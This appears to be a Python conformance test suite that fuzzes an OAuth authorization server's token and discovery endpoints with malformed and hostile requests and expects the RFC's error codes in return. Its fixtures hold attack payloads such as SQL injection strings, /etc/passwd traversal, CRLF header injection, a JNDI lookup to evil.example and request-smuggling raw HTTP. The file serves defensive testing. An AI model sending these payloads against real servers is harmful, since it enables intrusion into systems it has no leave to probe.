"""Hostile input at the authorization server: the RFC's answer each time, never a 5xx or a hang."""

import base64
from urllib.parse import quote_plus, urlsplit

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.conformance.http_exchange import Answer, form_headers, host_of, send, send_octets
from tests.conformance.token_requests import basic, basic_header, in_the_body, refusal
from tests.conformance.under_test import AuthorizationServerUnderTest

INVALID_CLIENT = (401, "invalid_client")
INVALID_REQUEST = (400, "invalid_request")
INVALID_SCOPE = (400, "invalid_scope")
INVALID_TARGET = (400, "invalid_target")
UNSUPPORTED_GRANT = (400, "unsupported_grant_type")
GRANT = b"grant_type=client_credentials"
LONG = b"a" * 20_000

FORMS = {
    "nothing": (b"", {INVALID_REQUEST}),
    "only separators": (b"&&&=&=&", {INVALID_REQUEST}),
    "no equals sign": (b"grant_type", {INVALID_REQUEST}),
    "no name": (b"=client_credentials", {INVALID_REQUEST}),
    "semicolons": (b"grant_type=client_credentials;scope=Read", {UNSUPPORTED_GRANT}),
    "array": (b"grant_type[]=client_credentials", {INVALID_REQUEST}),
    "name in capitals": (b"GRANT_TYPE=client_credentials", {INVALID_REQUEST}),
    "name with a space": (b"grant_type+=client_credentials", {INVALID_REQUEST}),
    "value with a space": (b"grant_type=+client_credentials", {UNSUPPORTED_GRANT}),
    "value with a newline": (b"grant_type=client_credentials%0A", {UNSUPPORTED_GRANT}),
    "grant NUL": (b"grant_type=%00", {UNSUPPORTED_GRANT}),
    "grant long": (b"grant_type=" + LONG, {UNSUPPORTED_GRANT, INVALID_REQUEST}),
    "grant no UTF-8": (b"grant_type=%FF", {INVALID_REQUEST, UNSUPPORTED_GRANT}),
    "encoded name": (b"%67rant_type=client_credentials&grant_type=x", {INVALID_REQUEST}),
    "no UTF-8": (GRANT + b"&scope=%FF", {INVALID_REQUEST, INVALID_SCOPE}),
    "raw octets": (GRANT + b"&scope=\xff\xfe\x00", {INVALID_REQUEST, INVALID_SCOPE}),
    "surrogate": (GRANT + b"&scope=%ED%A0%80", {INVALID_REQUEST, INVALID_SCOPE}),
    "overlong UTF-8": (GRANT + b"&scope=%C0%80", {INVALID_REQUEST, INVALID_SCOPE}),
    "broken percent": (GRANT + b"&scope=%", {INVALID_REQUEST, INVALID_SCOPE}),
    "percent of no hex": (GRANT + b"&scope=%zz", {INVALID_REQUEST, INVALID_SCOPE}),
    "scope NUL": (GRANT + b"&scope=Read%00", {INVALID_SCOPE}),
    "scope newline": (GRANT + b"&scope=Read%0D%0AX-Injected:1", {INVALID_SCOPE}),
    "scope sql": (GRANT + b"&scope='+OR+1=1--", {INVALID_SCOPE}),
    "scope markup": (GRANT + b"&scope=<script>", {INVALID_SCOPE}),
    "scope long": (GRANT + b"&scope=" + LONG, {INVALID_SCOPE, INVALID_REQUEST}),
    "scopes many": (GRANT + b"&scope=" + b"+".join([b"s"] * 9000), {INVALID_SCOPE}),
    "resource NUL": (GRANT + b"&resource=http://x/%00", {INVALID_TARGET}),
    "resource newline": (GRANT + b"&resource=http://x/%0A", {INVALID_TARGET}),
    "resource brackets": (GRANT + b"&resource=http://[", {INVALID_TARGET}),
    "resource port": (GRANT + b"&resource=http://x:99999999999/", {INVALID_TARGET}),
    "resource script": (GRANT + b"&resource=javascript:alert(1)", {INVALID_TARGET}),
    "resource long": (GRANT + b"&resource=http://" + LONG, {INVALID_TARGET}),
    "resource fullwidth": (GRANT + "&resource=http://\uff45.example".encode(), {INVALID_TARGET}),
    "id beside NUL": (GRANT + b"&client_id=%00", {INVALID_REQUEST, INVALID_CLIENT}),
    "id long": (GRANT + b"&client_id=" + LONG, {INVALID_REQUEST, INVALID_CLIENT}),
    "an assertion too": (GRANT + b"&client_assertion=a.b.c", {INVALID_REQUEST}),
    "a repeated resource": (
        GRANT + b"&resource=http://x&resource=http://x",
        {INVALID_TARGET, INVALID_REQUEST},
    ),
}

HARMLESS_FORMS = {
    "separators around": b"&&" + GRANT + b"&&",
    "encoded letters": b"grant%5Ftype=client%5Fcredentials",
    "a thousand unknown": GRANT + b"&" + b"&".join(b"x%d=y" % number for number in range(1000)),
    "unknown NUL": GRANT + b"&x%00=%00",
    "unknown long": GRANT + b"&x=" + LONG,
    "state and redirect": GRANT + b"&state=a&redirect_uri=http://evil.example&response_type=token",
    "hidden fields": GRANT + b"&_method=DELETE&__proto__=x&iss=evil&sub=admin&expires_in=1",
}

CREDENTIALS = {
    "id NUL": ("\x00", "x"),
    "id with NUL": ("full\x00", "x"),
    "id newline": ("full\r\nX-Injected: 1", "x"),
    "id sql": ("' OR '1'='1", "' OR '1'='1"),
    "id path": ("../../etc/passwd", "x"),
    "id url": ("https://idp.example/client", "x"),
    "id not ASCII": ("clïent", "sécret"),
    "id emoji": ("😀", "😀"),
    "id long": ("a" * 5000, "x"),
    "id percent": ("%", "%"),
    "id template": ("{{7*7}}${7*7}", "x"),
    "secret long": ("full", "a" * 5000),
    "secret NUL": ("full", "\x00"),
    "secret empty": ("full", ""),
    "id empty": ("", "x"),
    "both empty": ("", ""),
}

AUTHORIZATIONS = {
    "scheme alone": "Basic",
    "unknown scheme": "Unknown abc",
    "bearer": "Bearer abc",
    "bearer jwt": "Bearer eyJhbGciOiJub25lIn0.e30.",
    "digest": 'Digest username="a", response="b"',
    "negotiate": "Negotiate YIIB",
    "no scheme": "Zm9vOmJhcg==",
    "two spaces": "Basic  Zm9v",
    "tab": "Basic\tZm9vOmJhcg==",
    "padding missing": "Basic Zm9vOmJhcg",
    "padding too much": "Basic Zm9vOmJhcg====",
    "url alphabet": "Basic " + base64.urlsafe_b64encode(b"\xff\xfe\xfd:\xff").decode(),
    "characters outside": "Basic Zm9v!OmJhcg==",
    "two pairs": "Basic Zm9vOmJhcg== Zm9vOmJhcg==",
    "quoted": 'Basic "Zm9vOmJhcg=="',
    "not ASCII": "Basic é",
    "long": "Basic " + "A" * 7000,
    "no UTF-8": basic_header(b"\x80:\x80"),
    "utf-16": basic_header("a:b".encode("utf-16")),
    "many colons": basic_header(":" * 100),
    "broken percent": basic_header("%:%"),
    "percent NUL": basic_header("%00:%00"),
    "percent no UTF-8": basic_header("%FF:%FF"),
}


def shown(answer: Answer) -> str:
    return f"{answer.headers} {answer.body.decode('utf-8', 'replace')}"


@pytest.mark.parametrize("name", FORMS)
def test_a_hostile_form_gets_its_error(server: AuthorizationServerUnderTest, name: str) -> None:
    form, expected = FORMS[name]

    answer = send("POST", server.token_url, form_headers(Authorization=basic(server.client)), form)

    assert refusal(answer) in expected
    assert "X-Injected: 1" not in dict(answer.headers)


@pytest.mark.parametrize("name", HARMLESS_FORMS)
def test_an_odd_but_harmless_form_is_granted(
    server: AuthorizationServerUnderTest, name: str
) -> None:
    headers = form_headers(Authorization=basic(server.client))

    assert send("POST", server.token_url, headers, HARMLESS_FORMS[name]).status == 200


@pytest.mark.parametrize("name", CREDENTIALS)
@pytest.mark.parametrize("method", ["basic", "post"])
def test_hostile_credentials_are_invalid_client(
    server: AuthorizationServerUnderTest, name: str, method: str
) -> None:
    client_id, secret = (quote_plus(part) for part in CREDENTIALS[name])
    headers, body = form_headers(), GRANT
    if method == "basic":
        headers = form_headers(Authorization=basic_header(f"{client_id}:{secret}"))
    else:
        body += f"&client_id={client_id}&client_secret={secret}".encode()

    answer = send("POST", server.token_url, headers, body)

    assert refusal(answer) == INVALID_CLIENT


@pytest.mark.parametrize("name", AUTHORIZATIONS)
def test_a_hostile_authorization_header_is_invalid_client(
    server: AuthorizationServerUnderTest, name: str
) -> None:
    headers = form_headers(Authorization=AUTHORIZATIONS[name])

    assert refusal(send("POST", server.token_url, headers, GRANT)) == INVALID_CLIENT


def test_two_authorization_headers_are_refused(server: AuthorizationServerUnderTest) -> None:
    header = ("Authorization", basic(server.client))

    answer = send("POST", server.token_url, [*form_headers(), header, header], GRANT)

    assert refusal(answer) in {INVALID_CLIENT, INVALID_REQUEST, (400, None)}


@pytest.mark.parametrize(
    "media_type",
    [
        None,
        "",
        "application/x-www-form-urlencoded, application/json",
        "application/x-www-form-urlencodedx",
        "multipart/form-data",
        "multipart/form-data; boundary=",
        "application/xml",
        "a" * 5000,
    ],
    ids=["absent", "empty", "two", "longer", "no boundary", "empty boundary", "xml", "long"],
)
def test_a_hostile_content_type_is_invalid_request(
    server: AuthorizationServerUnderTest, media_type: str | None
) -> None:
    headers = [("Authorization", basic(server.client))]
    headers += [] if media_type is None else [("Content-Type", media_type)]

    assert refusal(send("POST", server.token_url, headers, GRANT)) == INVALID_REQUEST


@pytest.mark.parametrize("charset", ["utf-16", "nonsense", "utf-7", '"', "a;b=c;;"])
def test_a_hostile_charset_does_not_break_the_form(
    server: AuthorizationServerUnderTest, charset: str
) -> None:
    media_type = f"application/x-www-form-urlencoded; charset={charset}"
    headers = [("Authorization", basic(server.client)), ("Content-Type", media_type)]

    answer = send("POST", server.token_url, headers, GRANT)

    assert answer.status == 200 or refusal(answer) == INVALID_REQUEST


@pytest.mark.parametrize(
    "query",
    [
        "client_secret=x",
        "client_secret=",
        "client_secret",
        "client%5Fsecret=x",
        "a=b&client_secret=x",
        "client_assertion=x",
        "client_id=x&client_secret=%FF",
    ],
)
def test_credentials_in_the_url_are_refused_or_ignored_where_empty(
    server: AuthorizationServerUnderTest, query: str
) -> None:
    headers = form_headers(Authorization=basic(server.client))

    answer = send("POST", f"{server.token_url}?{query}", headers, GRANT)

    empty = query in {"client_secret=", "client_secret"}
    assert refusal(answer) == INVALID_REQUEST or (empty and answer.status == 200)


@pytest.mark.parametrize(
    "query", ["%", "%FF=%FF", "a=b&a=b", "grant_type=password", "scope=Write&scope=x", "=&"]
)
def test_any_other_query_is_ignored(server: AuthorizationServerUnderTest, query: str) -> None:
    headers = form_headers(Authorization=basic(server.client))

    assert send("POST", f"{server.token_url}?{query}", headers, GRANT).status == 200


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("traceparent", "00-0-0-0"),
        ("traceparent", "00-" + "f" * 32 + "-" + "f" * 16 + "-zz"),
        ("traceparent", "\xff" * 100),
        ("tracestate", "a=b," * 200),
        ("X-Forwarded-For", "'; DROP TABLE clients; --"),
        ("X-Forwarded-Proto", "javascript"),
        ("X-Forwarded-Host", "evil.example"),
        ("X-Forwarded-Prefix", "/evil"),
        ("X-HTTP-Method-Override", "DELETE"),
        ("Accept", "text/html;q=nonsense"),
        ("Accept-Encoding", "gzip;q=-1"),
        ("Cookie", "session=\xff; =;;;"),
        ("Range", "bytes=0-0"),
        ("If-None-Match", "*"),
        ("Origin", "null"),
        ("Referer", "\xff"),
        ("User-Agent", "${jndi:ldap://evil.example/a}"),
    ],
    ids=lambda text: text[:20].encode("ascii", "replace").decode(),
)
def test_a_hostile_header_changes_nothing(
    server: AuthorizationServerUnderTest, name: str, value: str
) -> None:
    headers = [*form_headers(Authorization=basic(server.client)), (name, value)]

    answer = send("POST", server.token_url, headers, GRANT)

    assert answer.status == 200
    assert "evil.example" not in shown(answer)


@pytest.mark.parametrize(
    "host",
    ["evil.example", "localhost.evil.example", "", "a b", "[", "localhost:x", "é", "a" * 300],
    ids=["other", "suffix", "empty", "space", "bracket", "port", "not ASCII", "long"],
)
@pytest.mark.parametrize("document", ["openid-configuration", "oauth-authorization-server"])
def test_a_hostile_host_stands_in_no_document(
    server: AuthorizationServerUnderTest, host: str, document: str
) -> None:
    url = f"{server.issuer}/.well-known/{document}"

    answer = send("GET", url, [("Host", host)])

    assert 400 <= answer.status < 500 or answer.members().get("issuer") == server.issuer
    assert "evil.example" not in shown(answer)


@pytest.mark.parametrize(
    "path",
    [
        "{path}/",
        "{path}/..{path}",
        "{path}%00",
        "{path}%FF",
        "{path};a=b",
        "{path}.json",
        "/%2e%2e/etc/passwd",
        "/" + "a" * 3000,
        "/.well-known/",
        "/.well-known/openid-configuration/x",
        "/static/x",
        "/%",
    ],
    ids=lambda path: path[:24],
)
@pytest.mark.parametrize("method", ["GET", "POST"])
def test_a_path_beside_the_endpoints_is_not_found(
    server: AuthorizationServerUnderTest, path: str, method: str
) -> None:
    base, token_path = server.issuer, urlsplit(server.token_url).path

    answer = send(method, base + path.format(path=token_path), form_headers(), GRANT)

    assert answer.status in {400, 404, 405}


@pytest.mark.parametrize("method", ["TRACE", "CONNECT", "OPTIONS", "PROPFIND", "FOO", "post"])
def test_another_method_gives_no_token(server: AuthorizationServerUnderTest, method: str) -> None:
    headers = form_headers(Authorization=basic(server.client))

    answer = send(method, server.token_url, headers, GRANT)

    assert answer.status in {200, 204, 400, 404, 405, 501}
    assert "access_token" not in answer.members()


def test_a_body_that_is_too_large_is_refused(server: AuthorizationServerUnderTest) -> None:
    body = GRANT + b"&x=" + b"a" * 1_000_000
    headers = [
        *form_headers(Authorization=basic(server.client)),
        ("Content-Length", str(len(body))),
        ("Connection", "close"),
    ]
    head = "".join(f"{name}: {value}\r\n" for name, value in headers)
    path, host = urlsplit(server.token_url).path, host_of(server.token_url)

    answer = send_octets(
        server.token_url,
        f"POST {path} HTTP/1.1\r\nHost: {host}\r\n{head}\r\n".encode() + body,
    )

    assert answer is None or answer.status in {200, 400, 413}


RAW = {
    "no request": b"\r\n\r\n",
    "no version": b"POST {path}\r\n\r\n",
    "old version": b"POST {path} HTTP/0.9\r\n\r\n",
    "future version": b"POST {path} HTTP/9.9\r\nHost: {host}\r\n\r\n",
    "no host": b"POST {path} HTTP/1.1\r\nContent-Length: 0\r\n\r\n",
    "two hosts": b"POST {path} HTTP/1.1\r\nHost: {host}\r\nHost: evil.example\r\n\r\n",
    "binary": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n",
    "NUL in a header": b"POST {path} HTTP/1.1\r\nHost: {host}\r\nX: a\x00b\r\n\r\n",
    "header without colon": b"POST {path} HTTP/1.1\r\nHost: {host}\r\nnonsense\r\n\r\n",
    "space before colon": b"POST {path} HTTP/1.1\r\nHost: {host}\r\nX : a\r\n\r\n",
    "folded header": b"POST {path} HTTP/1.1\r\nHost: {host}\r\nX: a\r\n b\r\n\r\n",
    "length negative": b"POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Length: -1\r\n\r\n",
    "length no number": b"POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Length: x\r\n\r\n",
    "two lengths": b"POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Length: 1\r\n"
    b"Content-Length: 2\r\n\r\nab",
    "length and chunks": b"POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Length: 3\r\n"
    b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "broken chunk": b"POST {path} HTTP/1.1\r\nHost: {host}\r\n"
    b"Content-Type: application/x-www-form-urlencoded\r\n"
    b"Transfer-Encoding: chunked\r\n\r\nzz\r\nabc\r\n0\r\n\r\n",
    "short body": b"POST {path} HTTP/1.1\r\nHost: {host}\r\n"
    b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 100\r\n\r\ngrant_type=",
    "short chunk": b"POST {path} HTTP/1.1\r\nHost: {host}\r\n"
    b"Content-Type: application/x-www-form-urlencoded\r\n"
    b"Transfer-Encoding: chunked\r\n\r\n20\r\ngrant_type=",
    "unknown coding": b"POST {path} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: x\r\n\r\n",
    "long header": b"POST {path} HTTP/1.1\r\nHost: {host}\r\nX: " + b"a" * 70_000 + b"\r\n\r\n",
    "many headers": b"POST {path} HTTP/1.1\r\nHost: {host}\r\n" + b"X: a\r\n" * 500 + b"\r\n",
    "long target": b"POST {path}?" + b"a" * 70_000 + b" HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "script name": b"POST {path} HTTP/1.1\r\nHost: {host}\r\nSCRIPT_NAME: /x\r\n"
    b"Content-Length: 0\r\n\r\n",
    "absolute target": b"POST http://evil.example{path} HTTP/1.1\r\nHost: {host}\r\n"
    b"Content-Length: 0\r\n\r\n",
    "target without slash": b"POST token HTTP/1.1\r\nHost: {host}\r\nContent-Length: 0\r\n\r\n",
    "target star": b"OPTIONS * HTTP/1.1\r\nHost: {host}\r\nContent-Length: 0\r\n\r\n",
    "target raw octets": b"POST {path}\xff\xfe HTTP/1.1\r\nHost: {host}\r\n"
    b"Content-Length: 0\r\n\r\n",
    "unmet expectation": b"POST {path} HTTP/1.1\r\nHost: {host}\r\nExpect: a-miracle\r\n"
    b"Content-Length: 0\r\n\r\n",
    "unknown compression": b"POST {path} HTTP/1.1\r\nHost: {host}\r\n"
    b"Content-Type: application/x-www-form-urlencoded\r\nContent-Encoding: gzip\r\n"
    b"Content-Length: 3\r\n\r\n\x1f\x8b\x08",
}


@pytest.mark.parametrize("name", RAW)
def test_a_malformed_http_request_is_refused_or_hung_up_on(
    server: AuthorizationServerUnderTest, name: str
) -> None:
    path, host = urlsplit(server.token_url).path, host_of(server.token_url)
    request = RAW[name].replace(b"{path}", path.encode()).replace(b"{host}", host.encode())

    answer = send_octets(server.token_url, request)

    # 505 is what RFC 9110 §15.6.6 has for an HTTP version, 501 what RFC 9112 §6.1 has for a coding.
    assert answer is None or 400 <= answer.status < 500 or answer.status in {501, 505}


def test_an_error_shows_nothing_of_the_inside(server: AuthorizationServerUnderTest) -> None:
    headers = form_headers(Authorization=basic(server.client))
    forms = [form for form, _ in FORMS.values()]

    answers = [send("POST", server.token_url, headers, form) for form in forms]

    told = "\n".join(shown(answer) for answer in answers).lower()
    assert [word for word in ("traceback", "sqlalchemy", ".py", "werkzeug") if word in told] == []


SWEEP = settings(
    max_examples=60,
    derandomize=True,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
PIECES = st.sampled_from(
    [
        b"grant_type",
        b"client_credentials",
        b"client_id",
        b"client_secret",
        b"client_assertion",
        b"scope",
        b"resource",
        b"openid",
        b"http://",
        b"=",
        b"&",
        b"+",
        b"%00",
        b"%",
        b"\xff",
        b";",
        b"#",
    ]
)


@SWEEP
@given(pieces=st.lists(st.one_of(PIECES, st.binary(max_size=4)), max_size=20))
def test_no_form_whatever_yields_a_5xx(
    server: AuthorizationServerUnderTest, pieces: list[bytes]
) -> None:
    headers = form_headers(Authorization=basic(server.client))

    answer = send("POST", server.token_url, headers, b"".join(pieces))

    assert answer.status in {200, 400, 401}


@SWEEP
@given(pair=st.binary(max_size=40))
def test_no_basic_credentials_whatever_yield_anything_but_invalid_client(
    server: AuthorizationServerUnderTest, pair: bytes
) -> None:
    answer = send("POST", server.token_url, form_headers(Authorization=basic_header(pair)), GRANT)

    assert refusal(answer) == INVALID_CLIENT


@SWEEP
@given(value=st.text(st.characters(codec="latin-1", exclude_categories=["Cc"]), max_size=40))
def test_no_authorization_header_whatever_yields_a_token_or_a_5xx(
    server: AuthorizationServerUnderTest, value: str
) -> None:
    answer = send("POST", server.token_url, form_headers(Authorization=value), GRANT)

    assert refusal(answer) in {INVALID_CLIENT, INVALID_REQUEST}


@SWEEP
@given(name=st.sampled_from(["scope", "resource", "client_id"]), value=st.text(max_size=30))
def test_no_value_of_a_parameter_yields_a_5xx(
    server: AuthorizationServerUnderTest, name: str, value: str
) -> None:
    secret = in_the_body(server.client)[1][1]
    body = GRANT + f"&client_secret={secret}&{name}={quote_plus(value)}".encode()

    assert send("POST", server.token_url, form_headers(), body).status in {400, 401}
